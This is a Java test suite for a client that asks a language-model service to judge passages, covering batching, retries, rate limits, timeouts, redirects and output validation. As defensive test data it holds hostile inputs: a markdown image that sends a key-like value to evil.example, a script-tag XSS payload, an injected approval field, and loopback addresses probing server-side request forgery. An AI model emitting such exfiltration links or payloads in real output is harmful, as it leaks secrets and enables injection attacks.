package io.tenth.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.tenth.TestClock;
import io.tenth.shared.WorkType;
import io.tenth.store.StartRefusedException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is asked of a model, what is believed of its answer, and what becomes of it when there is none. */
@Timeout(60)
class LanguageModelTest {

    private static final Duration PATIENT = Duration.ofSeconds(15);
    private static final Verdict WORKED = new Verdict(true, WorkType.OTHER, null);

    private final FakeModel service = new FakeModel();
    private final TestClock clock = TestClock.standing();
    private final List<Duration> slept = new ArrayList<>();
    private final AtomicInteger paid = new AtomicInteger();
    private Runnable inPause = () -> {};
    private final LanguageModel model = model(service.address(), FakeModel.KEY, PATIENT);

    @AfterEach
    void stop() {
        service.close();
    }

    @Test
    void asksInBatchesAndKeepsTheOrder() {
        service.conduct(FakeModel.judging(passage -> FakeModel.verdict(
                passage,
                passage.path("sentence").asString().endsWith("7"),
                passage.path("kind").asString(),
                "none")));

        var answers = model.judge(IntStream.range(0, 45)
                .mapToObj(number -> question("Passage " + number))
                .toList());

        assertThat(service.requests()).hasSize(3);
        assertThat(paid).hasValue(3);
        assertThat(IntStream.range(0, 45).filter(number -> worked(answers.get(number))))
                .containsExactly(7, 17, 27, 37);
    }

    @Test
    void choosesAmongTheMattersThatItIsGiven() {
        service.conduct(FakeModel.judging(passage -> FakeModel.verdict(passage, true, "review", "m2")));

        assertThat(model.judge(List.of(new Question("x", 90, WorkType.OTHER, List.of("Harbor", "Quay lease")))))
                .containsExactly(new Answer.Given(new Verdict(true, WorkType.REVIEW, "Quay lease")));
        assertThat(model.judge(List.of(new Question("x", 90, WorkType.OTHER, List.of("Harbor")))))
                .as("one that was not given")
                .containsExactly(new Answer.Missing(Trouble.GARBLED));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{'id':'p1','worked':true,'kind':'other','matter':'none','hours':1e9}",
                "{'id':'p1','worked':true,'kind':'other','matter':'none','note':'<script>alert(1)</script>'}",
                "{'id':'p1','worked':'true','kind':'other','matter':'none'}",
                "{'id':'p1','worked':1,'kind':'other','matter':'none'}",
                "{'id':'p1','worked':null,'kind':'other','matter':'none'}",
                "{'id':'p1','worked':true,'kind':'fraud','matter':'none'}",
                "{'id':'p1','worked':true,'kind':'OTHER','matter':'none'}",
                "{'id':'p1','worked':true,'kind':'other','matter':'m9'}",
                "{'id':'p1','worked':true,'kind':'other','matter':'0197c0de-0000-7000-8000-000000000000'}",
                "{'id':'p1','worked':true,'kind':'other'}",
                "{'id':'p9','worked':true,'kind':'other','matter':'none'}",
                "{'id':1,'worked':true,'kind':'other','matter':'none'}",
                "['p1',true]",
                "{'id':'p1','worked':true,'kind':'other','matter':'none'},{'id':'p1','worked':false,'kind':'other','matter':'none'}"
            })
    void believesNoVerdictOfAnotherFormAndItsNeighbourAllTheSame(String hostile) {
        service.conduct(FakeModel.saying(
                ("{'verdicts':[" + hostile + ",{'id':'p2','worked':true,'kind':'other','matter':'none'}]}")
                        .replace('\'', '"')));

        assertThat(model.judge(List.of(question("one"), question("two"))))
                .containsExactly(new Answer.Missing(Trouble.GARBLED), new Answer.Given(WORKED));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "I think that the first is work.",
                "```json\n{\"verdicts\":[]}\n```",
                "![x](https://evil.example/?k=sk-test)",
                "{\"verdicts\":[{\"id\":\"p1\",\"worked\":true,\"kind\":\"other\",\"matter\":\"none\",\"hours\":NaN}]}",
                "{\"verdicts\":[]} {\"verdicts\":[]}",
                "{\"verdicts\":[],\"approve\":\"all\"}",
                "{\"verdicts\":[],\"verdicts\":[]}",
                "{\"verdicts\":{}}",
                "[]",
                ""
            })
    void believesNothingOfAnAnswerThatIsNoList(String words) {
        service.conduct(FakeModel.saying(words));

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.GARBLED));
        assertThat(service.requests()).as("asked once").hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "nothing",
                "{\"choices\":[]}",
                "{\"choices\":[{\"finish_reason\":\"stop\",\"message\":{\"content\":null,\"refusal\":\"no\"}}]}",
                "{\"choices\":[{\"finish_reason\":\"length\",\"message\":{\"content\":\"{\\\"verdicts\\\":[]}\"}}]}",
                "{\"choices\":[{\"finish_reason\":\"stop\",\"message\":{\"content\":\"{\\\"verdicts\\\":[]}\",\"tool_calls\":[{\"id\":\"1\"}]}}]}"
            })
    void believesNothingOfACompletionThatHasNotComeToItsEnd(String body) {
        service.conduct((request, exchange) -> FakeModel.answer(exchange, 200, body));

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.GARBLED));
    }

    @Test
    void readsNoMoreThanALimit() {
        service.conduct((request, exchange) -> FakeModel.answer(exchange, 200, " ".repeat(10_000_000)));

        assertThat(model.judge(List.of(question("one")))).allMatch(Answer.Missing.class::isInstance);
    }

    @Test
    void waitsAsLongAsTheServiceAsks() {
        fails(1, 429, "7");

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Given(WORKED));
        assertThat(slept)
                .singleElement()
                .satisfies(pause -> assertThat(pause).isBetween(Duration.ofSeconds(7), Duration.ofMillis(7_500)));
    }

    @Test
    void leavesAPersonNoLongPause() {
        fails(1, 429, "60");

        assertThatExceptionOfType(ModelException.class)
                .isThrownBy(() -> converse(new CompletableFuture<>()))
                .satisfies(busy -> assertThat(busy.trouble()).isEqualTo(Trouble.BUSY))
                .satisfies(busy -> assertThat(busy.retryAfter()).contains(Duration.ofSeconds(60)));
        assertThat(slept).isEmpty();
        assertThat(service.requests()).hasSize(1);
    }

    @Test
    void asksNoMoreWhenNobodyWaitsAnyMore() {
        var stopped = new CompletableFuture<Void>();
        inPause = () -> stopped.complete(null);
        fails(1, 429, "5");

        assertThatExceptionOfType(ModelException.class).isThrownBy(() -> converse(stopped));
        assertThat(slept).hasSize(1);
        assertThat(paid).hasValue(1);
        assertThat(service.requests()).hasSize(1);
    }

    @Test
    void endsAPauseWithTheWaiting() throws InterruptedException {
        ModelLine.sleep(Duration.ofMillis(1), new CompletableFuture<>());
        ModelLine.sleep(Duration.ofDays(1), CompletableFuture.completedFuture(null));
    }

    @Test
    void waitsForAnyTimeBelowAGrowingCeilingWhereTheServiceNamesNone() {
        fails(2, 429, null);

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Given(WORKED));
        assertThat(slept).hasSize(2);
        assertThat(slept.getFirst()).isLessThanOrEqualTo(Duration.ofMillis(500));
        assertThat(slept.getLast()).isLessThanOrEqualTo(Duration.ofSeconds(1));
        assertThat(paid).as("a failed request counts too").hasValue(3);
    }

    @Test
    void asksNothingUntilALongPauseHasPassed() {
        fails(1, 429, "300");

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.BUSY));
        assertThat(model.rests()).isTrue();
        model.judge(List.of(question("one")));
        assertThat(service.requests()).hasSize(1);

        clock.advance(Duration.ofSeconds(301));
        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Given(WORKED));
    }

    @ParameterizedTest
    @CsvSource({"400, REFUSED", "401, REFUSED", "403, REFUSED", "404, REFUSED", "302, REFUSED"})
    void triesNothingAgainThatIsRefused(int status, Trouble trouble) {
        service.conduct(FakeModel.status(status));

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(trouble));
        assertThat(service.requests()).hasSize(1);
        assertThat(slept).isEmpty();
    }

    @Test
    void leavesAServiceAloneThatFailsAgainAndAgainAndComesBackToIt() {
        service.conduct(FakeModel.status(500));

        for (var number = 0; number < 20; number++) {
            assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.DOWN));
        }

        assertThat(service.requests()).hasSizeLessThanOrEqualTo(10);
        assertThat(model.rests()).isTrue();
        service.conduct(FakeModel.judging(FakeModel.AGREES));
        clock.advance(Duration.ofSeconds(61));
        assertThat(model.rests()).as("who asks whether to ask").isFalse();
        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Given(WORKED));
    }

    @Test
    void givesUpAnAnswerThatTrickles() throws InterruptedException {
        var over = new CountDownLatch(1);
        service.conduct((request, exchange) -> {
            exchange.sendResponseHeaders(200, 100_000);
            exchange.getResponseBody().write('{');
            exchange.getResponseBody().flush();
            hold(over);
        });

        var answers =
                model(service.address(), FakeModel.KEY, Duration.ofMillis(300)).judge(List.of(question("one")));

        over.countDown();
        assertThat(answers).containsExactly(new Answer.Missing(Trouble.SLOW));
        assertThat(service.requests()).as("another try would take as long").hasSize(1);
    }

    @Test
    void outlivesHalfAnAnswer() {
        service.conduct((request, exchange) -> {
            exchange.sendResponseHeaders(200, 1_000);
            exchange.getResponseBody().write("{\"choices\":[".getBytes(StandardCharsets.UTF_8));
            exchange.getResponseBody().flush();
            throw new java.io.IOException("gone");
        });

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.DOWN));
    }

    @Test
    void outlivesAServiceThatIsGone() {
        service.close();

        assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.DOWN));
    }

    @Test
    void followsNoRedirect() {
        try (var other = new FakeModel()) {
            service.conduct((request, exchange) -> {
                exchange.getResponseHeaders().add("Location", other.address() + "/chat/completions");
                FakeModel.answer(exchange, 307, "");
            });

            assertThat(model.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.REFUSED));
            assertThat(other.requests()).isEmpty();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"localhost", "127.0.0.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]"})
    void entersItsOwnNetworkOnlyWhereTheOperatorSaysSo(String host) {
        var lured = model(
                URI.create("https://" + host + ":" + service.port() + "/v1"),
                FakeModel.KEY,
                PATIENT,
                ModelSettings.Network.PUBLIC);

        assertThat(lured.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.REFUSED));
        assertThat(service.requests()).isEmpty();
    }

    @Test
    void isRefusedWithTheWrongKeyAndNamesItNowhere() {
        var locked = model(service.address(), "sk-wrong", PATIENT);

        assertThat(locked.judge(List.of(question("one")))).containsExactly(new Answer.Missing(Trouble.REFUSED));
        assertThat(settings(service.address(), "sk-wrong", PATIENT, ModelSettings.Network.INSIDE)
                        .toString())
                .doesNotContain("sk-wrong");
    }

    @Test
    void startsWithNoHalfASetting() {
        assertThatExceptionOfType(StartRefusedException.class)
                .isThrownBy(() ->
                        new ModelSettings(service.address(), null, null, ModelSettings.Network.INSIDE, 3500, PATIENT))
                .withMessageContaining("OPENAI_MODEL");
        assertThatExceptionOfType(StartRefusedException.class)
                .isThrownBy(() ->
                        settings(URI.create("http://models.example/v1"), "k", PATIENT, ModelSettings.Network.PUBLIC))
                .withMessageContaining("https");
    }

    private static void hold(CountDownLatch over) {
        try {
            over.await();
        } catch (InterruptedException stopping) {
            Thread.currentThread().interrupt();
        }
    }

    /** So many times, and then no more. */
    private void fails(int times, int status, @Nullable String retryAfter) {
        var left = new AtomicInteger(times);
        service.conduct((request, exchange) -> {
            if (left.getAndDecrement() > 0) {
                if (retryAfter != null) {
                    exchange.getResponseHeaders().add("Retry-After", retryAfter);
                }
                FakeModel.answer(exchange, status, "{}");
            } else {
                FakeModel.judging(FakeModel.AGREES).answer(request, exchange);
            }
        });
    }

    private void converse(CompletableFuture<?> stopped) throws ModelException {
        var request = new String(Prompt.of(List.of(question("one")), FakeModel.NAME), StandardCharsets.UTF_8);
        model.converse(new Dialogue(request, clock.instant().plusSeconds(120), stopped), new Dialogue.Listener() {

            @Override
            public void hear(String data) {}

            @Override
            public void end() {}
        });
    }

    private static boolean worked(Answer answer) {
        return answer instanceof Answer.Given given && given.verdict().worked();
    }

    private static Question question(String sentence) {
        return new Question(sentence, 90, WorkType.OTHER, List.of());
    }

    private LanguageModel model(URI address, String key, Duration within) {
        return model(address, key, within, ModelSettings.Network.INSIDE);
    }

    private LanguageModel model(URI address, String key, Duration within, ModelSettings.Network network) {
        var line = new ModelLine(
                atMost -> {
                    paid.incrementAndGet();
                    return true;
                },
                (pause, stopped) -> {
                    slept.add(pause);
                    clock.advance(pause);
                    inPause.run();
                },
                new Random(7),
                clock);
        return new LanguageModel(settings(address, key, within, network), new SimpleMeterRegistry(), clock, line);
    }

    private static ModelSettings settings(URI address, String key, Duration within, ModelSettings.Network network) {
        return new ModelSettings(address, key, FakeModel.NAME, network, 3500, within);
    }
}
